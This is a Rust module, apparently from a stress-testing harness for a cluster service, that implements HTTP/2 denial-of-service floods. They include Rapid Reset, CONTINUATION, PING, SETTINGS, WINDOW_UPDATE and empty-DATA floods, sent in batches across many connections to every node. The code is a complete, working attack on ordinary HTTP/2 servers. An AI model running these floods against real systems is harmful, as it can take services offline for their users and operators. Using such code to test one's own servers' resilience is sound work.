//! Frames of HTTP/2 that are cheap to send and cost a server more: floods.

use std::{sync::Arc, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _, split},
    time::timeout_at,
};

use super::crowd::{Member, crowd};
use crate::{Bounds, Frame, PREFACE, Request, Tally, Target};

/// Frames of one write.
const BATCH: u32 = 64;
/// How long one write may take before the node counts as one that takes no more.
const WRITE_LIMIT: Duration = Duration::from_secs(1);
/// A call that every caller may make and that is answered at once.
const OPEN_CALL: &str = "/conclave.v1.AdminService/GetClusterStatus";

/// What is repeated.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Flood {
    /// A request, and at once its reset.
    RapidReset,
    /// Headers that go on in frame after frame.
    Continuation,
    /// A question that must be answered.
    Ping,
    /// Settings that must be acknowledged.
    Settings,
    /// A byte more of the window.
    WindowUpdate,
    /// A frame of a body without a byte.
    EmptyData,
}

/// Sends such frames as fast as they are taken, on connections to both ports of all nodes.
pub(super) async fn flood(target: Arc<Target>, bounds: Bounds, flood: Flood) -> Tally {
    let everywhere = target.everywhere();
    let act = move |member: Member| async move {
        let mut all = Tally::default();
        // One that is cut comes again.
        while tokio::time::Instant::now() < member.until {
            let one = Box::pin(once(&member, flood)).await;
            all += one.unwrap_or(Tally {
                failed: 1,
                ..Tally::default()
            });
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        Some(all)
    };
    crowd(target, everywhere, bounds.count, bounds, act).await
}

async fn once(member: &Member, flood: Flood) -> Option<Tally> {
    let wire = member.open().await?;
    let (mut reading, mut writing) = split(wire);
    let begin = [
        PREFACE,
        &Frame::Settings.bytes(),
        &Frame::SettingsAck.bytes(),
    ];
    writing.write_all(&begin.concat()).await.ok()?;
    let block = Request {
        path: OPEN_CALL,
        token: None,
    };
    let block = block.headers();
    if flood == Flood::Continuation {
        let open = Frame::OpenHeaders(1, &block).bytes();
        writing.write_all(&open).await.ok()?;
    }
    if flood == Flood::EmptyData {
        let open = Frame::Headers(1, &block, false).bytes();
        writing.write_all(&open).await.ok()?;
    }
    let taking = async {
        let mut ignored = vec![0; 16 * 1024];
        while matches!(reading.read(&mut ignored).await, Ok(bytes) if bytes > 0) {}
    };
    let sending = async {
        for round in 0.. {
            let batch: Vec<u8> = (0..BATCH)
                .flat_map(|number| frames(flood, round * BATCH + number, &block))
                .collect();
            let until = tokio::time::Instant::now() + WRITE_LIMIT;
            match timeout_at(until, writing.write_all(&batch)).await {
                Ok(Ok(())) | Err(_) => {}
                Ok(Err(_)) => return,
            }
        }
    };
    let both = async {
        tokio::select! {
            () = taking => {}
            () = sending => {}
        }
    };
    let cut = timeout_at(member.until, both).await.is_ok();
    Some(Tally {
        opened: 1,
        failed: 0,
        cut: usize::from(cut),
    })
}

fn frames(flood: Flood, number: u32, block: &[u8]) -> Vec<u8> {
    match flood {
        Flood::RapidReset => {
            let stream = (2 * number + 1) & 0x7fff_ffff;
            [
                Frame::Headers(stream, block, false).bytes(),
                Frame::Reset(stream).bytes(),
            ]
            .concat()
        }
        Flood::Continuation => Frame::Continuation(1, &[], false).bytes(),
        Flood::Ping => Frame::Ping.bytes(),
        Flood::Settings => Frame::Settings.bytes(),
        Flood::WindowUpdate => Frame::WindowUpdate(0, 1).bytes(),
        Flood::EmptyData => Frame::Data(1, &[], false).bytes(),
    }
}
